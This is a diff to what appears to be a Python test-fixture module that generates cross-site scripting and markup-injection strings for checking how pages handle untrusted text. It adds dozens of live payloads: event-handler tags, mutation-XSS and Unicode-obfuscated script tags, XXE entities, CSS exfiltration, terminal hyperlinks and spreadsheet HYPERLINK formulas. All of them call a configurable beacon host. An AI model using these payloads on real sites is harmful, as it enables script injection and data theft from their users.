@@ -1,4 +1,8 @@
-"""Texts that would do something in a page that took them for anything but text. `{beacon}` is where they would call."""
+"""Texts that would do something in a page that took them for anything but text. `{beacon}` is where they would call.
+
+What is known one by one is in `HOSTILE`; the rest is every family of attack said in every script that people write in,
+each time in another place where text goes.
+"""
 
 _CALL = "fetch('{beacon}')"
 
@@ -87,11 +91,82 @@ HOSTILE = (
     "` onmouseover={call} `",
     "]]><script>{call}</script>",
     "--><script>{call}</script><!--",
+    "<button popovertarget=p onclick={call}>x</button><p id=p popover onbeforetoggle={call}>",
+    "<dialog open onclose={call}><form method=dialog><button autofocus>x</button></form></dialog>",
+    "<img src=x loading=lazy onerror={call}>",
+    "<link rel=modulepreload href={beacon}>",
+    "<link rel=dns-prefetch href={beacon}>",
+    "<link rel=icon href={beacon}>",
+    "<link rel=manifest href={beacon}>",
+    "<script type=importmap>{{\"imports\":{{\"react\":\"{beacon}\"}}}}</script>",
+    "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{beacon}\"]}}]}}</script>",
+    "<iframe srcdoc=\"<img src=x onerror=parent.{call}>\">",
+    "<portal src={beacon}></portal>",
+    "<applet code={beacon}></applet>",
+    "<frameset onload={call}><frame src={beacon}></frameset>",
+    "<input type=image src={beacon} onerror={call}>",
+    "<button form=f formaction='javascript:{call}'>x</button><form id=f>",
+    "<isindex action='javascript:{call}' type=image>",
+    "<track default src={beacon}><video><track default src={beacon} onload={call}></video>",
+    "<picture><source srcset={beacon}><img src=x></picture>",
+    "<table background={beacon}><tr><td background={beacon}>x</table>",
+    "<style>@font-face{{font-family:x;src:url({beacon})}}*{{font-family:x}}</style>",
+    "<style>input[value^=a]{{background:url({beacon})}}</style>",
+    "<style>*{{animation:x 1s}}@keyframes x{{}}</style><b onanimationstart={call}>x</b>",
+    "<form id=fetch><input name=body></form><img name=cookie>",
+    "<a id=trustedTypes></a><a id=trustedTypes name=createPolicy>x</a>",
+    "<svg><a xlink:href='javascript:{call}'><text y=20>click</text></a></svg>",
+    "<svg><style>*{{fill:url({beacon}#a)}}</style><rect/></svg>",
+    "<?xml-stylesheet href='{beacon}'?><?php {call} ?>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM '{beacon}'>]><x>&e;</x>",
+    "<![CDATA[<script>{call}</script>]]>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={call}>",
+    "<svg></p><style><a id=\"</style><img src=x onerror={call}>\">",
+    "<select><template><img src=x onerror={call}></template></select><plaintext>",
+    "\ufeff<script>{call}</script>",
+    "<\u200bscript>{call}</\u200bscript>",
+    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
+    "<\u017fcript>{call}</\u017fcript>",
+    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
+    "\u00bcscript\u00be{call}\u00bc/script\u00be",
+    "\x1b]8;;{beacon}\x1b\\click\x1b]8;;\x1b\\",
+    "=HYPERLINK(\"{beacon}\",\"click\")",
+    "@import url({beacon});",
+    "vbscript:MsgBox(1)",
+    "view-source:{beacon}",
+    "blob:{beacon}",
 )  # fmt: skip
+
+FAMILIES = (
+    "<img src=x onerror={call}>{words}",
+    "{words}</p></li></textarea></title></style></script><script>{call}</script>",
+    '{words}" autofocus onfocus={call} "',
+    "{words} <a href='javascript:{call}'>{words}</a>",
+    "[{words}](javascript:{call}) ![{words}]({beacon})",
+    "<style>@import '{beacon}'</style><b style='background:url({beacon})'>{words}",
+)
+"""An element, the end of whatever the text is in, an attribute, an address, markdown, a style."""
+
+LANGUAGES = (
+    "\u0627\u062f\u0641\u0639 \u0627\u0644\u0622\u0646",
+    "\u05e9\u05dc\u05dd \u05e2\u05db\u05e9\u05d9\u05d5",
+    "\u4eca\u3059\u3050\u652f\u6255\u3046",
+    "\u7acb\u5373\u4ed8\u6b3e",
+    "\uc9c0\uae08 \uacb0\uc81c",
+    "\u0e08\u0e48\u0e32\u0e22\u0e40\u0e14\u0e35\u0e4b\u0e22\u0e27\u0e19\u0e35\u0e49",
+    "\u0905\u092d\u0940 \u092d\u0941\u0917\u0924\u093e\u0928 \u0915\u0930\u0947\u0902",
+    "\u041e\u043f\u043b\u0430\u0442\u0438\u0442\u044c \u0441\u0435\u0439\u0447\u0430\u0441",
+    "\u03a0\u03bb\u03ae\u03c1\u03c9\u03c3\u03b5 \u03c4\u03ce\u03c1\u03b1",
+    "\u015eimdi \u00f6de \u0130\u0131",
+    "Thanh to\u00e1n ngay \u1ea5\u1edb",
+    "\U0001f469\u200d\U0001f4bb\u2764\ufe0f\U0001f6d2 Z\u0351\u0343\u034b\u0313",
+)
+"""Pay now: from right to left, without spaces, with marks above and below, with letters that change their length."""
 
 
 def hostile(host: str) -> list[str]:
     """Each of them, calling at `host`."""
     beacon = f"http://{host}/beacon"
-    call = _CALL.format(beacon=beacon)
-    return [one.format(beacon=beacon, host=host, call=call) for one in HOSTILE]
+    facts = {"beacon": beacon, "host": host, "call": _CALL.format(beacon=beacon)}
+    spoken = (family.format(words=words, **facts) for words in LANGUAGES for family in FAMILIES)
+    return [*(one.format(**facts) for one in HOSTILE), *spoken]
